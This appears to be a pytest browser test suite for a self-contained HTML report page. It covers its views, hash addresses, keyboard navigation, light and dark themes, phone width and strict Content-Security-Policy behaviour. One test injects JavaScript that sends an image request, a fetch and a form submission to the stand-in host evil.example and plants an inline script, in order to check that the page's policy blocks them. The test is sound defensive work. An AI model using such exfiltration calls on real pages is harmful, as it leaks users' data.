"""The page of a report in a browser: every view, its addresses, the keyboard, light and dark, and no way out."""

import re
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from tests.browser.chromium import Page
from tests.browser.conftest import Open

Serve = Callable[[bytes, Mapping[str, str]], str]
SHOWN = (
    "[...document.querySelectorAll('section[data-view]')].filter((e) => e.checkVisibility()).map((e) => e.dataset.view)"
)
CURRENT = "[...document.querySelectorAll('#views a[aria-current=page]')].map((e) => e.dataset.go)"


def names(page: Page) -> list[str]:
    found: list[str] = page.evaluate("[...document.querySelectorAll('#views a[data-go]')].map((e) => e.dataset.go)")
    return found


def test_every_view_opens_by_a_click_and_by_its_address(visit: Open, judged: Path) -> None:
    page = visit((judged / "with-history.html").as_uri())
    views = names(page)
    assert {"verdict", "changes", "impact", "history"} <= {*views}
    assert page.evaluate(SHOWN) == views[:1]
    for name in views:
        page.click(f"#views a[data-go={name}]")
        assert page.evaluate(SHOWN) == page.evaluate(CURRENT) == [name]
        assert page.evaluate("location.hash") == f"#/{name}"
        words = page.evaluate(f"document.querySelector('section[data-view={name}]').innerText.trim().length")
        assert words > 40, name
    for name in reversed(views):
        page.go(f"#/{name}")
        assert page.evaluate(SHOWN) == page.evaluate(CURRENT) == [name]
    page.evaluate("history.back(), 0")
    page.until(f"location.hash === '#/{views[1]}'")
    page.settle()
    assert page.evaluate(SHOWN) == [views[1]], "the way back leads to the view before"


@pytest.mark.parametrize("address", ["#/nothing", "#/%E0%A4%A", "#", "#/rows?filter=nothing&row=nowhere", "#/?x=%"])
def test_an_address_that_leads_nowhere_shows_a_view(address: str, visit: Open, report: str) -> None:
    page = visit(report + address)
    assert len(page.evaluate(SHOWN)) == 1


def test_by_keyboard_alone(visit: Open, report: str) -> None:
    page = visit(report)
    page.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page = visit(report)
    focused = set()
    for _ in range(len(names(page)) + 4):
        page.press("Tab")
        focused.add(page.evaluate("document.activeElement.dataset.go ?? document.activeElement.id"))
        style = "getComputedStyle(document.activeElement)"
        assert page.evaluate(f"{style}.outlineStyle !== 'none' || {style}.boxShadow !== 'none'"), "focus is seen"
    assert {*names(page), "theme", "redact"} <= focused
    page = visit(report)
    while page.evaluate("document.activeElement.dataset.go ?? ''") != names(page)[1]:
        page.press("Tab")
    page.press("Enter")
    assert page.evaluate(SHOWN) == [names(page)[1]]


def test_folds_open_by_key(visit: Open, report: str) -> None:
    page = visit(report)
    page.evaluate("document.querySelector('section:not([hidden]) details:not([open]) summary').focus(), 0")
    page.press("Enter")
    assert page.evaluate("document.activeElement.parentElement.open") is True


def test_texts_can_be_hidden(visit: Open, report: str) -> None:
    page = visit(report)
    page.click("#redact")
    colour = "getComputedStyle(document.querySelector('section:not([hidden]) code, section:not([hidden]) pre')).color"
    assert page.evaluate(colour) in ("rgba(0, 0, 0, 0)", "transparent")
    page.click("#redact")
    assert page.evaluate(colour) not in ("rgba(0, 0, 0, 0)", "transparent")


def background(page: Page) -> int:
    """Its brightness, 0 to 765."""
    colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
    return sum(map(int, re.findall(r"\d+", colour)[:3]))


def test_light_and_dark(visit: Open, report: str) -> None:
    light, dark = visit(report), visit(report, dark=True)
    assert background(light) > 600 > 200 > background(dark)
    for _ in range(2):
        dark.click("#theme")
    assert dark.evaluate("document.documentElement.dataset.theme") == "dark"
    for _ in range(2):
        dark.click("#theme")
    assert dark.evaluate("document.documentElement.dataset.theme") == "light"
    assert background(dark) > 600


def test_nothing_is_wider_than_a_telephone(visit: Open, report: str) -> None:
    page = visit(report, width=390, height=800)
    for name in names(page):
        page.go(f"#/{name}")
        assert page.evaluate("document.documentElement.scrollWidth") <= 391, name


STRICT = "default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; sandbox allow-scripts"


def test_as_an_artefact_under_a_strict_policy(visit: Open, judged: Path, served: Serve) -> None:
    """As artefacts are served: an origin of its own, no storage, nothing loaded."""
    page = visit(served((judged / "report.html").read_bytes(), {"Content-Security-Policy": STRICT}))
    assert page.requests == [page.evaluate("location.href")]
    for name in names(page):
        page.click(f"#views a[data-go={name}]")
        assert page.evaluate(SHOWN) == [name]
    page.click("#theme")


def test_without_a_script_all_of_it_is_there(visit: Open, judged: Path, served: Serve) -> None:
    """Some servers forbid scripts and styles alike."""
    policy = {"Content-Security-Policy": "sandbox; default-src 'none'; img-src 'self'; style-src 'self'"}
    page = visit(served((judged / "report.html").read_bytes(), policy), fine=False)
    assert page.requests == page.visited
    assert page.evaluate(SHOWN) == names(page)
    text = page.evaluate("document.body.innerText")
    assert "FAIL" in text and "facts" in text


def test_it_asks_for_nothing(visit: Open, report: str) -> None:
    page = visit(report)
    for name in names(page):
        page.go(f"#/{name}")
    assert page.requests == [report]


def test_its_own_policy_lets_nothing_out(visit: Open, report: str) -> None:
    """Even a script that got in could not send anything: the policy refuses before the network is asked."""
    page = visit(report, fine=False)
    page.evaluate(
        "(() => { new Image().src = 'https://evil.example/a.png'; fetch('https://evil.example/b').catch(() => 0);"
        " const s = document.createElement('script'); s.textContent = 'window.intruder = 1'; document.body.append(s);"
        " const f = document.createElement('form'); f.action = 'https://evil.example/c'; document.body.append(f);"
        " f.submit(); })()"
    )
    page.until("window.__violations.length >= 4")
    assert page.requests == [report]
    assert page.evaluate("window.intruder ?? null") is None


def test_small(judged: Path) -> None:
    text = (judged / "report.html").read_text(encoding="utf-8")
    data = re.search(r'<script type="application/json" id="data">(.*?)</script>', text, re.S)
    assert data is not None
    assert len(text.encode()) - len(data[1].encode()) < 400_000
